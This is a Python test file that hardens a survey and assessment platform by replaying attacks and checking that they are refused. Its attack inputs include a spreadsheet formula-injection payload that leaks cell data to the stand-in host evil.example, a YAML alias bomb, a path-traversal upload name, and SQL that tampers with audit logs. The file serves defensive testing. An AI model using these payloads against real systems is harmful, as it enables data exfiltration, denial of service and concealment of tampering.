"""Hardening (issue 19): each attack or careless-operator mistake replayed, then refused."""

from __future__ import annotations

import io
import os
import shutil
import stat
import threading
import time
from datetime import datetime
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner
from streamlit.testing.v1 import AppTest

from ocf import cache
from ocf.access import SYSTEM, issue_invitations, sign_in
from ocf.cli import main
from ocf.demo import demo_actor
from ocf.errors import ConfigError, PermissionDenied
from ocf.loading import parse_survey
from ocf.models import Site
from ocf.reports import export_round
from ocf.rounds import change_status, open_round, resolve_content
from ocf.spreadsheet import neutralise
from ocf.store import Store
from ocf.store.accounts import Accounts

from .conftest import FIXTURES, PROJECT, dump

APP = str(PROJECT / "app_router.py")
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def invoke(*args: str) -> object:
    return CliRunner().invoke(main, list(args))


# --------------------------------------------------------------------------- safe by default


def test_make_run_and_streamlit_listen_on_this_computer_only() -> None:
    """`make run` served on every interface; the demo's one-click admin was open to the LAN."""
    assert "--server.address $(ADDRESS)" in (PROJECT / "Makefile").read_text()
    assert "ADDRESS ?= 127.0.0.1" in (PROJECT / "Makefile").read_text()
    assert 'address = "127.0.0.1"' in (PROJECT / ".streamlit" / "config.toml").read_text()


def test_the_server_skips_per_run_work_a_crowd_would_feel() -> None:
    """The panel-event load test (benchmarks/panel_event.py) found Streamlit's full garbage
    collection after every run (a third of the server's time) and its watch of every module's
    file on every run (a sixth): both off for the server `make run` starts."""
    import tomllib

    config = tomllib.loads((PROJECT / ".streamlit" / "config.toml").read_text())
    assert config["runner"]["postScriptGC"] is False
    assert config["server"]["fileWatcherType"] == "none"
    assert "$(ARGS)" in (PROJECT / "Makefile").read_text()  # a developer can turn it back on


@pytest.mark.parametrize(
    "command",
    [
        ["users", "add", "Real Lead", "--role", "lead", "--site", "XTA1", "--email", "r@nhs.net"],
        ["site", "add", "RZZ", "--name", "A real trust"],
        ["import", "responses", "FILE"],
        ["import", "detentions", "FILE"],
    ],
)
def test_the_demo_database_refuses_real_accounts_and_imports(
    demo_path: Path, tmp_path: Path, command: list[str]
) -> None:
    """A real account written into the demo was shown to anyone clicking 'Administrator'."""
    db = tmp_path / "demo.db"
    shutil.copy(demo_path, db)
    csv = tmp_path / "data.csv"
    csv.write_text("site,period,measure,ethnic_group,count,population\nXTA1,2024-25,x,White,1,9\n")
    before = dump(Store.open(db))
    args = [str(csv) if a == "FILE" else a for a in command]
    result = invoke(*args, "--db", str(db))
    assert result.exit_code == 1
    assert "demo database" in result.output and "Traceback" not in result.output
    assert dump(Store.open(db)) == before


def test_an_upload_name_is_never_used_as_a_path(demo_path: Path, tmp_path: Path) -> None:
    """The import page wrote an upload to tmpdir/upload.name: '../' went where it pointed."""
    db = tmp_path / "ocf.db"
    shutil.copy(demo_path, db)
    target = tmp_path / "escaped.csv"
    at = AppTest.from_file(APP, default_timeout=30)
    os.environ["OCF_DB"] = str(db)
    try:
        at.session_state["actor"] = demo_actor(Store.open(db), "admin")
        at.switch_page("app_pages/admin_imports.py").run()
        body = b"site,period,measure,ethnic_group,count,population\nXTA1,2024-25,x,White,1,9\n"
        at.file_uploader[0].upload(f"../../../../{target}", body, "text/csv").run()
        at.file_uploader[0].upload(str(target), body, "text/csv").run()
    finally:
        del os.environ["OCF_DB"]
    assert not at.exception
    assert not target.exists()


# --------------------------------------------------------------------------- formulas


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_looking_text_is_neutralised(lead: str) -> None:
    assert neutralise(f"{lead}cmd") == f"'{lead}cmd"
    assert neutralise("plain") == "plain" and neutralise(-0.5) == -0.5 and neutralise(None) is None


def test_a_round_id_must_follow_the_documented_pattern(tmp_path: Path) -> None:
    db = str(tmp_path / "ocf.db")
    result = invoke("round", "add", FORMULA, "--framework", "ocf-race-equality", "--db", db)
    assert result.exit_code == 1 and "round id" in result.output
    assert Store.open(db).rounds.list_rounds() == []


def test_exports_and_listings_neutralise_formula_cells(tmp_path: Path) -> None:
    """A site name or an audit entry that starts with '=' must not become a live formula."""
    db = tmp_path / "ocf.db"
    store = Store.open(db)
    store.sites.add_sites([Site("RX1", FORMULA)], "t")
    open_round(store, "r1", resolve_content("ocf-race-equality"), "t")
    listing = invoke("site", "list", "--db", str(db)).output
    assert FORMULA not in listing.replace(f"'{FORMULA}", "")
    audit = invoke("audit", "--db", str(db)).output
    assert "\n=" not in audit and ",=" not in audit
    change_status(store, "r1", "close", "t")
    xlsx = export_round(store, SYSTEM, "r1", tmp_path / "scores.xlsx")
    book = openpyxl.load_workbook(xlsx)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


# --------------------------------------------------------------------------- YAML bombs


BOMB = """id: bomb
version: 1
framework: tiny
audience: panel
title: Bomb
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
sections: []
"""


def test_a_yaml_alias_bomb_is_refused_quickly_with_a_line() -> None:
    from ocf.loading import load_library

    framework = load_library([FIXTURES / "framework-minimal.yaml"]).frameworks["tiny"]
    started = time.monotonic()
    with pytest.raises(ConfigError) as error:
        parse_survey(BOMB, "bomb.yaml", framework)
    assert time.monotonic() - started < 5
    assert "bomb.yaml:" in str(error.value) and "alias" in str(error.value)


def test_a_self_referencing_alias_is_refused_with_a_line(tmp_path: Path) -> None:
    path = tmp_path / "loop.yaml"
    path.write_text("id: loop\nversion: 1\nloop: &x [*x]\n")
    result = invoke("validate", str(path))
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert f"{path}:3:" in result.output


def test_the_shipped_surveys_still_use_their_anchors() -> None:
    """Bounded, not banned: small shared option lists (x-sets) stay allowed."""
    assert invoke("validate").exit_code == 0


# --------------------------------------------------------------------------- files


def test_database_backup_and_exports_are_private_to_their_owner(tmp_path: Path) -> None:
    db = tmp_path / "ocf.db"
    store = Store.open(db)
    store.sites.add_sites([Site("RX1", "Trust")], "t")
    open_round(store, "r1", resolve_content("ocf-race-equality"), "t")
    change_status(store, "r1", "close", "t")
    files = [db, store.backup(tmp_path / "backup.db")]
    files.append(export_round(store, SYSTEM, "r1", tmp_path / "scores.csv"))
    files.append(export_round(store, SYSTEM, "r1", tmp_path / "scores.xlsx"))
    for path in files:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path


def test_a_mistyped_db_creates_nothing(tmp_path: Path) -> None:
    """`ocf score --db /nonexistent-dir/x.db` made the folder and an empty database."""
    missing = tmp_path / "no-such-folder" / "x.db"
    for args in (["score", "--round", "r1"], ["audit"], ["round", "list"], ["site", "list"]):
        result = invoke(*args, "--db", str(missing))
        assert result.exit_code == 1, args
        assert f"no database at {missing}" in result.output
    assert not missing.parent.exists()
    plain = tmp_path / "new.db"
    result = invoke("site", "add", "RX1", "--name", "A trust", "--db", str(plain))
    assert result.exit_code == 0 and f"created a new database at {plain}" in result.stderr


# --------------------------------------------------------------------------- races


def test_sign_in_throttling_counts_every_parallel_attempt(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """60 parallel wrong codes from one address: MAX_FAILED_SIGN_INS are checked at once, then
    one at a time, each after a pause that doubles; the rest wait and are told to try again
    (here after 2.5 s of waiting)."""
    from ocf import access
    from ocf.access import MAX_FAILED_SIGN_INS
    from ocf.errors import PermissionDenied

    monkeypatch.setattr(access, "WAIT_AT_MOST", 2.5)
    db = tmp_path / "ocf.db"
    Store.open(db).close()
    checked, refused = [], []
    barrier = threading.Barrier(60)

    def attempt(number: int) -> None:
        store = Store.open(db)
        barrier.wait()
        try:
            sign_in(store, f"AAAA-BBBB-{number:04d}".replace("0", "A"), client="203.0.113.9")
            checked.append(1)
        except PermissionDenied as error:
            refused.append(str(error))
        store.close()

    threads = [threading.Thread(target=attempt, args=(n,)) for n in range(60)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(checked) >= MAX_FAILED_SIGN_INS and "try again" in refused[0]
    failed = [
        datetime.fromisoformat(row["at"])
        for row in Store.open(db).db.query(
            "SELECT at FROM sign_in_attempts WHERE client = '203.0.113.9' ORDER BY at"
        )
    ]
    assert len(failed) == len(checked) == 60 - len(refused)
    # Beyond the limit, each check came at least its pause after the failure before it.
    for number in range(MAX_FAILED_SIGN_INS, len(failed)):
        gap = (failed[number] - failed[number - 1]).total_seconds()
        assert gap >= access.sign_in_pause(number), (number, gap)


def test_a_room_of_members_signing_in_at_once_from_one_address_all_get_in(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A panel event: 30 members in one room (one address behind the venue's router) enter
    their right codes at once. The load test (benchmarks/panel_event.py) found 2 of 25 and 22
    of 50 refused "too many wrong codes": each attempt was counted as a failure while its code
    was being checked, so six at once looked like six failures. Those waiting their turn then
    asked for the write lock every 20 ms, slowing the checks they waited for: now they wait to
    be told a place is free, and only then ask."""
    from ocf.demo import DEMO_SITE

    db = tmp_path / "ocf.db"
    store = Store.open(db)
    from ocf.models import Site
    from ocf.rounds import open_round, resolve_content

    store.sites.add_sites([Site(DEMO_SITE, "A trust")], "t")
    open_round(store, "r1", resolve_content("ocf-race-equality"), "t")
    codes = issue_invitations(store, SYSTEM, DEMO_SITE, "r1", 30)
    store.close()
    signed, refused, reserved = [], [], []
    barrier = threading.Barrier(len(codes))
    reserve = Accounts.reserve_sign_in

    def counted(self, *args):
        reserved.append(1)
        return reserve(self, *args)

    monkeypatch.setattr(Accounts, "reserve_sign_in", counted)

    def attempt(code: str) -> None:
        own = Store.open(db)
        barrier.wait()
        try:
            signed.append(sign_in(own, code, client="198.51.100.7"))
        except PermissionDenied as error:
            refused.append(str(error))
        own.close()

    threads = [threading.Thread(target=attempt, args=(c,)) for c in codes]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert refused == [] and len(signed) == len(codes) and all(signed)
    assert len(reserved) < 3 * len(codes)  # polling took several hundred


def test_the_cache_is_safe_across_threads(tmp_path: Path) -> None:
    """8 threads × 20,000 calls gave KeyErrors."""
    Store.open(tmp_path / "ocf.db").close()
    errors = []

    def hammer(number: int) -> None:
        store = Store.open(tmp_path / "ocf.db")  # one connection per thread, as pages do
        try:
            for i in range(20_000):
                cache.cached(store, "t", str((number * 7 + i) % 97), lambda i=i: i)
        except Exception as error:
            errors.append(error)

    threads = [threading.Thread(target=hammer, args=(n,)) for n in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []


def test_csv_outputs_read_back_unchanged_apart_from_the_mark(tmp_path: Path) -> None:
    db = tmp_path / "ocf.db"
    Store.open(db).sites.add_sites([Site("RX1", "+44 Trust")], "t")
    table = pd.read_csv(io.StringIO(invoke("site", "list", "--db", str(db)).output))
    assert table.loc[0, "name"] == "'+44 Trust"


# --------------------------------------------------------------------------- restore and audit


def crafted_backup(tmp_path: Path, sql: list[str]) -> Path:
    """A backup of a real database, then changed with `sql` (an attacker's edits)."""
    import sqlite3

    source = Store.open(tmp_path / "source.db")
    source.sites.add_sites([Site("RX1", "Trust")], "t")
    path = source.backup(tmp_path / "crafted.db")
    conn = sqlite3.connect(path)
    for statement in sql:
        conn.execute(statement)
    conn.commit()
    conn.close()
    return path


@pytest.mark.parametrize(
    ("sql", "problem"),
    [
        (["DROP TRIGGER audit_no_update", "DROP TRIGGER audit_no_delete"], "missing trigger"),
        (
            [
                "CREATE TRIGGER eat AFTER INSERT ON audit BEGIN "
                "DELETE FROM audit WHERE id = new.id; END"
            ],
            "unexpected trigger eat",
        ),
        (["DROP INDEX submissions_round"], "missing index submissions_round"),
    ],
)
def test_restore_refuses_a_backup_whose_schema_was_changed(
    tmp_path: Path, sql: list[str], problem: str
) -> None:
    """A backup without the audit triggers passed `ocf restore`; admin actions then left no trace."""
    backup = crafted_backup(tmp_path, sql)
    live = tmp_path / "live.db"
    Store.open(live).sites.add_sites([Site("RX2", "Live trust")], "t")
    before = dump(Store.open(live))
    result = invoke("restore", "--yes", str(backup), "--db", str(live))
    assert result.exit_code == 1 and problem in result.output, result.output
    assert dump(Store.open(live)) == before


def test_restore_refuses_a_backup_whose_audit_log_was_edited(tmp_path: Path) -> None:
    backup = crafted_backup(
        tmp_path,
        [
            "DROP TRIGGER audit_no_update",
            "UPDATE audit SET actor = 'someone else'",
            """CREATE TRIGGER audit_no_update BEFORE UPDATE ON audit
           BEGIN SELECT RAISE(ABORT, 'the audit log is append-only'); END""",
        ],
    )
    result = invoke("restore", "--yes", str(backup), "--db", str(tmp_path / "live.db"))
    assert result.exit_code == 1 and "BROKEN" in result.output


def test_a_good_backup_still_restores(tmp_path: Path) -> None:
    backup = crafted_backup(tmp_path, [])
    # On another server, the audit key comes with the backup (deployment.md).
    shutil.copy(tmp_path / "source.db.audit-key", tmp_path / "live.db.audit-key")
    result = invoke("restore", "--yes", str(backup), "--db", str(tmp_path / "live.db"))
    assert result.exit_code == 0, result.output
    assert Store.open(tmp_path / "live.db").sites.get_site("RX1") is not None


def test_a_backup_made_with_another_servers_key_is_not_restored(tmp_path: Path) -> None:
    backup = crafted_backup(tmp_path, [])
    result = invoke("restore", "--yes", str(backup), "--db", str(tmp_path / "live.db"))
    assert result.exit_code == 1 and "another server's audit key" in result.output


def test_the_audit_chain_shows_any_edit(tmp_path: Path) -> None:
    import sqlite3

    db = tmp_path / "ocf.db"
    store = Store.open(db)
    store.sites.add_sites([Site("RX1", "Trust"), Site("RX2", "Trust two")], "t")
    open_round(store, "r1", resolve_content("ocf-race-equality"), "t")
    good = invoke("audit", "--verify", "--db", str(db))
    assert good.exit_code == 0 and "intact: 3 entries" in good.output
    conn = sqlite3.connect(db)  # someone with the file, going around the triggers
    conn.execute("DROP TRIGGER audit_no_delete")
    conn.execute("DELETE FROM audit WHERE id = 2")
    conn.commit()
    conn.close()
    bad = invoke("audit", "--verify", "--db", str(db))
    assert bad.exit_code == 1 and "BROKEN at entry 3" in bad.output
    at = AppTest.from_file(APP, default_timeout=30)
    os.environ["OCF_DB"] = str(db)
    try:
        from ocf.access import add_account

        admin = sign_in(Store.open(db), add_account(Store.open(db), SYSTEM, "Admin", "admin"))
        at.session_state["actor"] = admin
        at.switch_page("app_pages/audit.py").run()
    finally:
        del os.environ["OCF_DB"]
    assert not at.exception
    assert "Broken" in at.error[0].value


def test_the_audit_filters_offer_what_the_log_holds(demo_path: Path) -> None:
    store = Store.open(demo_path)
    entities, actions = store.audit.audit_vocabulary()
    assert {"site", "round", "panel"} <= set(entities)
    assert {"add", "status", "close"} <= set(actions)


# --------------------------------------------------------------------------- stale actors


def test_a_stale_actor_is_not_trusted(tmp_path: Path) -> None:
    """The role and site come from the database at every check, not from the session."""
    from dataclasses import replace

    from ocf.access import add_account
    from ocf.admin import audit_log
    from ocf.errors import PermissionDenied

    store = Store.open(tmp_path / "ocf.db")
    store.sites.add_sites([Site("RX1", "Trust")], "t")
    lead = sign_in(store, add_account(store, SYSTEM, "Lead", "lead", "RX1"))
    forged = replace(lead, role="admin", site=None)
    with pytest.raises(PermissionDenied, match="role or site has changed"):
        audit_log(store, forged)


def test_opening_a_store_does_not_wait_for_another_writer(tmp_path: Path) -> None:
    """Every page run opens a store; opening took the write lock and waited for any writer."""
    import sqlite3

    db = tmp_path / "ocf.db"
    Store.open(db).close()
    writer = sqlite3.connect(db, isolation_level=None)
    writer.execute("BEGIN IMMEDIATE")  # another process in the middle of a long write
    opened = threading.Event()

    def open_store() -> None:
        Store.open(db).close()
        opened.set()

    thread = threading.Thread(target=open_store)
    thread.start()
    try:
        assert opened.wait(timeout=8), "Store.open waited for the write lock"
    finally:
        writer.execute("ROLLBACK")
        writer.close()
        thread.join()


# --------------------------------------------------------------------------- no traceback


def cli_db(tmp_path: Path) -> Path:
    db = tmp_path / "ocf.db"
    store = Store.open(db)
    store.sites.add_sites([Site("QX1", "An ICB", "icb"), Site("RX1", "Trust", parent="QX1")], "t")
    open_round(store, "r1", resolve_content("ocf-race-equality"), "t")
    store.close()
    return db


def refused_cleanly(result, *words: str) -> None:
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output and "Error:" not in result.output.split(":", 1)[0]
    for word in words:
        assert word in result.output, result.output


@pytest.mark.parametrize("count", ["inf", "nan", "1e30", "-inf", "1e400"])
def test_impossible_detention_counts_name_their_row(tmp_path: Path, count: str) -> None:
    db = cli_db(tmp_path)
    before = dump(Store.open(db))
    path = tmp_path / "template.csv"
    path.write_text(
        "site,period,measure,ethnic_group,count,population\n"
        f"RX1,2024-25,All detentions,White,{count},100000\n"
    )
    refused_cleanly(invoke("import", "detentions", str(path), "--db", str(db)), "ROW 2", "count")
    assert dump(Store.open(db)) == before


def test_a_latin1_file_is_named_not_a_traceback(tmp_path: Path) -> None:
    db = cli_db(tmp_path)
    path = tmp_path / "latin1.csv"
    path.write_bytes("code,name\nRX9,Trust de Sant\xe9\n".encode("latin-1"))
    refused_cleanly(invoke("site", "import", str(path), "--db", str(db)), "not UTF-8")
    detentions = tmp_path / "d.csv"
    detentions.write_bytes(
        "site,period,measure,ethnic_group,count,population\n\xe9\n".encode("latin-1")
    )
    refused_cleanly(invoke("import", "detentions", str(detentions), "--db", str(db)), "not UTF-8")


def test_a_site_parent_cycle_is_refused(tmp_path: Path) -> None:
    db = cli_db(tmp_path)
    before = dump(Store.open(db))
    path = tmp_path / "sites.csv"
    path.write_text("code,name,kind,parent\nPA1,Place A,place,PB1\nPB1,Place B,place,PA1\n")
    refused_cleanly(invoke("site", "import", str(path), "--db", str(db)), "ROW 2", "cycle")
    assert dump(Store.open(db)) == before


def test_invite_for_an_unknown_site_says_so(tmp_path: Path) -> None:
    db = cli_db(tmp_path)
    result = invoke("invite", "--site", "NOPE", "--round", "r1", "--db", str(db))
    refused_cleanly(result, "unknown site 'NOPE'")


@pytest.mark.parametrize(
    "command",
    [
        ["backup", "FOLDER/b.db"],
        ["report", "RX1", "--round", "r1", "--out", "FOLDER/r.html"],
        ["export", "--round", "r1", "--out", "FOLDER/s.csv"],
    ],
)
def test_writing_into_a_missing_folder_says_so(tmp_path: Path, command: list[str]) -> None:
    db = cli_db(tmp_path)
    folder = tmp_path / "missing"
    args = [a.replace("FOLDER", str(folder)) for a in command]
    refused_cleanly(invoke(*args, "--db", str(db)), "no such folder")
    assert not folder.exists()


def test_the_same_import_twice_at_once_writes_it_once(tmp_path: Path) -> None:
    """Both validated before either wrote: the second hit a duplicate key (a traceback)."""
    from ocf.errors import ConflictError
    from ocf.importers import RESPONSE_COLUMNS, RESPONSE_REQUIRED, read_table
    from ocf.response_import import read_responses

    db = cli_db(tmp_path)
    path = tmp_path / "responses.csv"
    path.write_text(
        "site,round,survey,respondent,item,value\n"
        + "".join(
            f"RX1,r1,ocf-self-assessment,lead,{c.id}-level,2\n"
            for c in Store.open(db).rounds.round_framework("r1").competencies
        )
    )
    first, second = Store.open(db), Store.open(db)
    table = read_table(path, RESPONSE_COLUMNS, RESPONSE_REQUIRED)
    one, two = (
        list(read_responses(table.rows, table.source, store).responses())
        for store in (first, second)
    )
    first.submissions.add_submitted(one, "a")
    before = dump(second)
    with pytest.raises(ConflictError, match="already"):
        second.submissions.add_submitted(two, "b")
    assert dump(second) == before


def test_a_full_disk_gives_the_real_error_and_changes_nothing(tmp_path: Path) -> None:
    db = cli_db(tmp_path)
    store = Store.open(db)
    pages = store.db.execute("PRAGMA page_count").fetchone()[0]
    before = dump(store)
    store.db.execute(f"PRAGMA max_page_count = {pages + 1}")  # the disk fills up
    from ocf.errors import StorageError

    sites = [Site(f"RF{i:03d}", "x" * 2000) for i in range(200)]
    with pytest.raises(StorageError, match="full"):
        store.sites.add_sites(sites, "t")
    assert dump(store) == before


# --------------------------------------------------------------------------- errors by type


def test_an_unknown_round_is_not_found_in_the_same_words_everywhere(tmp_path: Path) -> None:
    from ocf.comparison import compare_sites
    from ocf.errors import NotFound
    from ocf.linking import link
    from ocf.results import scores_table
    from ocf.submissions import panel_status

    db = cli_db(tmp_path)
    store = Store.open(db)
    calls = [
        lambda: scores_table(store, "nope"),
        lambda: compare_sites(store, SYSTEM, "nope"),
        lambda: link(store, "nope"),
        lambda: panel_status(store, SYSTEM, "nope"),
        lambda: change_status(store, "nope", "close", "t"),
        lambda: issue_invitations(store, SYSTEM, "RX1", "nope", 1),
    ]
    for call in calls:
        with pytest.raises(NotFound) as error:
            call()
        assert str(error.value) == "unknown round 'nope'" and error.value.kind == "round"


def test_bad_arguments_are_data_errors_not_permission_refusals(tmp_path: Path) -> None:
    from ocf.access import add_account
    from ocf.errors import DataError

    store = Store.open(cli_db(tmp_path))
    with pytest.raises(DataError, match="--role: unknown role 'boss'"):
        add_account(store, SYSTEM, "X", "boss")
    with pytest.raises(DataError, match="--site"):
        add_account(store, SYSTEM, "X", "lead")
    with pytest.raises(DataError, match="--count"):
        issue_invitations(store, SYSTEM, "RX1", "r1", 0)


def test_a_level_item_must_be_named_after_its_competency() -> None:
    """A survey with another id loaded, and the results page then showed blank levels."""
    from ocf.loading import load_library

    framework = load_library([FIXTURES / "framework-minimal.yaml"]).frameworks["tiny"]
    text = (
        (FIXTURES / "survey-minimal-self.yaml")
        .read_text()
        .replace("id: alpha-one-level", "id: alpha-one-rating")
    )
    with pytest.raises(ConfigError) as error:
        parse_survey(text, "self.yaml", framework)
    line = next(n for n, row in enumerate(text.splitlines(), 1) if "alpha-one-rating" in row)
    assert f"self.yaml:{line}:" in str(error.value) and "'alpha-one-level'" in str(error.value)


@pytest.mark.parametrize(
    ("peer", "forwarded", "trusted", "key"),
    [
        ("203.0.113.5", None, "", "203.0.113.5"),
        ("203.0.113.5", "1.2.3.4", "", "203.0.113.5"),  # no trusted proxy: the header is ignored
        ("10.0.0.2", "198.51.100.7", "10.0.0.2", "198.51.100.7"),
        ("10.0.0.2", "6.6.6.6, 198.51.100.7", "10.0.0.2", "198.51.100.7"),  # left part forgeable
        ("10.0.0.2", "198.51.100.7, 10.0.0.3", "10.0.0.2,10.0.0.3", "198.51.100.7"),
        ("10.0.0.2", "", "10.0.0.2", "10.0.0.2"),
        (None, "1.2.3.4", "10.0.0.2", "127.0.0.1"),  # Streamlit's None is this computer
        (None, "1.2.3.4", "127.0.0.1", "1.2.3.4"),  # a proxy on the same machine
    ],
)
def test_throttling_keys_on_the_address_the_trusted_proxy_saw(
    peer: str | None, forwarded: str | None, trusted: str, key: str
) -> None:
    from ocf.access import client_address

    assert client_address(peer, forwarded, trusted.split(",")) == key


def test_an_entry_deleted_and_the_hashes_recomputed_is_caught_by_the_key(tmp_path: Path) -> None:
    """With SHA-256 alone, someone with the file deleted an entry, recomputed every hash after
    it, and both `ocf audit --verify` and restore passed. The HMAC's key is not in the file."""
    import sqlite3

    from ocf.audit_chain import FIELDS, GENESIS, entry_hash

    db = tmp_path / "ocf.db"
    store = Store.open(db)
    store.sites.add_sites([Site("RX1", "Trust"), Site("RX2", "Trust two")], "t")
    open_round(store, "r1", resolve_content("ocf-race-equality"), "t")
    key = tmp_path / "ocf.db.audit-key"
    assert stat.S_IMODE(key.stat().st_mode) == 0o600
    head = invoke("audit", "--verify", "--db", str(db)).output.rsplit("full head ", 1)[1].strip()
    backup = Store.open(db).backup(tmp_path / "before.db")
    conn = sqlite3.connect(db)
    conn.execute("DROP TRIGGER audit_no_delete")
    conn.execute("DROP TRIGGER audit_no_update")
    conn.execute("DELETE FROM audit WHERE id = 2")
    previous = GENESIS
    for row in conn.execute(f"SELECT {', '.join(FIELDS)} FROM audit ORDER BY id").fetchall():
        previous = entry_hash(previous, dict(zip(FIELDS, row, strict=True)))
        conn.execute("UPDATE audit SET hash = ? WHERE id = ?", [previous, row[0]])
    conn.execute(  # the triggers put back, as the platform makes them
        "CREATE TRIGGER audit_no_update BEFORE UPDATE ON audit "
        "BEGIN SELECT RAISE(ABORT, 'the audit log is append-only'); END"
    )
    trigger = (
        sqlite3.connect(backup)
        .execute("SELECT sql FROM sqlite_master WHERE name = 'audit_no_delete'")
        .fetchone()[0]
    )
    conn.execute(trigger)
    conn.commit()
    conn.close()
    bad = invoke("audit", "--verify", "--db", str(db))
    assert bad.exit_code == 1 and "BROKEN at entry 3" in bad.output
    doctored = Store.open(db).backup(tmp_path / "doctored.db")
    Store.check_backup(doctored)  # the hashes alone hold: only the key shows the edit
    restore = invoke("restore", "--yes", str(doctored), "--db", str(tmp_path / "live.db"))
    assert restore.exit_code == 1
    # The untouched backup restores, and holds the head written down before.
    shutil.copy(key, tmp_path / "live.db.audit-key")
    assert invoke("restore", "--yes", str(backup), "--db", str(tmp_path / "live.db")).exit_code == 0
    held = invoke("audit", "--verify", "--anchor", head, "--db", str(tmp_path / "live.db"))
    assert held.exit_code == 0 and f"holds the anchor {head[:16]}" in held.output


def test_an_anchor_shows_a_truncated_end(tmp_path: Path) -> None:
    import sqlite3

    db = tmp_path / "ocf.db"
    store = Store.open(db)
    store.sites.add_sites([Site("RX1", "Trust")], "t")
    head = invoke("audit", "--verify", "--db", str(db)).output.rsplit("full head ", 1)[1].strip()
    store.sites.add_sites([Site("RX2", "Trust two")], "t")
    assert invoke("audit", "--verify", "--anchor", head[:16], "--db", str(db)).exit_code == 0
    conn = sqlite3.connect(db)
    conn.execute("DROP TRIGGER audit_no_delete")
    conn.execute("DELETE FROM audit WHERE id >= 1")
    conn.commit()
    conn.close()
    plain = invoke("audit", "--verify", "--db", str(db))
    assert plain.exit_code == 0  # an empty log is a consistent chain ...
    cut = invoke("audit", "--verify", "--anchor", head, "--db", str(db))
    assert cut.exit_code == 1 and "does not hold the anchor" in cut.output  # ... but not ours
    assert invoke("audit", "--anchor", head, "--db", str(db)).exit_code == 2


def test_a_backup_from_before_the_chain_is_restored_only_when_asked(tmp_path: Path) -> None:
    import sqlite3

    from sqlite_utils import Database

    from ocf.migrations import migrations

    backup = tmp_path / "old.db"  # a database of the release before migration 0008
    old = Database(sqlite3.connect(backup))
    migrations.apply(old, stop_before="0008_audit_chain")
    old.execute(
        "INSERT INTO audit (at, actor, action, entity, entity_id) "
        "VALUES ('2024-01-01T00:00:00+00:00', 't', 'add', 'site', 'RX1')"
    )
    old.conn.commit()
    old.close()
    live = str(tmp_path / "live.db")
    refused = invoke("restore", "--yes", str(backup), "--db", live)
    assert refused.exit_code == 1 and "before the audit log was chained" in refused.output
    done = invoke("restore", "--yes", str(backup), "--unchained", "--db", live)
    assert done.exit_code == 0, done.output
    assert "unchained backup" in Store.open(live).audit.audit_events("database")[0]["after"]


def test_a_demo_backup_is_not_restored_over_a_real_database_unless_asked(
    tmp_path: Path, demo_path: Path
) -> None:
    """It kept demo=1: one-click sign-in as any role, in production."""
    demo = tmp_path / "demo.db"
    shutil.copy(demo_path, demo)
    Store.open(demo).audit_key()  # made on first use
    backup = Store.open(demo).backup(tmp_path / "demo-backup.db")
    real = tmp_path / "real.db"
    Store.open(real).sites.add_sites([Site("RX1", "Trust")], "t")
    shutil.copy(tmp_path / "demo.db.audit-key", tmp_path / "real.db.audit-key.demo")
    refused = invoke("restore", "--yes", str(backup), "--db", str(real))
    assert refused.exit_code == 1 and "it is a demo database" in refused.output
    assert not Store.open(real).is_demo and Store.open(real).sites.get_site("RX1") is not None
    (tmp_path / "real.db.audit-key").unlink()  # the demo's key, to show the demo here
    shutil.move(tmp_path / "real.db.audit-key.demo", tmp_path / "real.db.audit-key")
    shown = invoke("restore", "--yes", str(backup), "--demo", "--db", str(real))
    assert shown.exit_code == 0, shown.output
    assert Store.open(real).is_demo


def test_exports_and_reports_never_overwrite_or_follow_a_link_unless_forced(
    tmp_path: Path, demo_path: Path
) -> None:
    db = str(demo_path)
    precious = tmp_path / "precious.txt"
    precious.write_text("keep me")
    link = tmp_path / "scores.csv"
    link.symlink_to(precious)
    for args in (
        ["export", "--round", "2024-25", "--out", str(link)],
        ["report", "XTA1", "--round", "2024-25", "--out", str(tmp_path / "r.html")],
    ):
        if args[0] == "report":
            (tmp_path / "r.html").symlink_to(precious)
        for force in ([], ["--force"]):
            result = invoke(*args, *force, "--db", db)
            assert result.exit_code == 1 and "symbolic link" in result.output, result.output
    assert precious.read_text() == "keep me"
    existing = tmp_path / "existing.csv"
    existing.write_text("old")
    refused = invoke("export", "--round", "2024-25", "--out", str(existing), "--db", db)
    assert refused.exit_code == 1 and "add --force" in refused.output
    assert existing.read_text() == "old"
    forced = invoke("export", "--round", "2024-25", "--out", str(existing), "--force", "--db", db)
    assert forced.exit_code == 0 and existing.read_text().startswith("site,round")
    assert stat.S_IMODE(existing.stat().st_mode) == 0o600


def test_a_backup_killed_midway_leaves_no_file_that_blocks_a_retry(tmp_path: Path) -> None:
    import signal
    import subprocess
    import sys

    db = tmp_path / "ocf.db"
    store = Store.open(db)
    store.sites.add_sites([Site(f"R{n:04d}", "x" * 2000) for n in range(3000)], "t")
    target = tmp_path / "backup.db"
    child = subprocess.Popen(
        [sys.executable, "-c", (
            "import time\n"
            "from ocf.store import Store, connection\n"
            "real = connection.place_file\n"
            "def slow(path, write, force=False):\n"
            "    def copying(temporary):\n"
            "        write(temporary); print('copying', flush=True); time.sleep(60)\n"
            "    return real(path, copying, force)\n"
            "connection.place_file = slow\n"
            f"Store.open({str(db)!r}).backup({str(target)!r})\n"
        )],
        stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    with child:
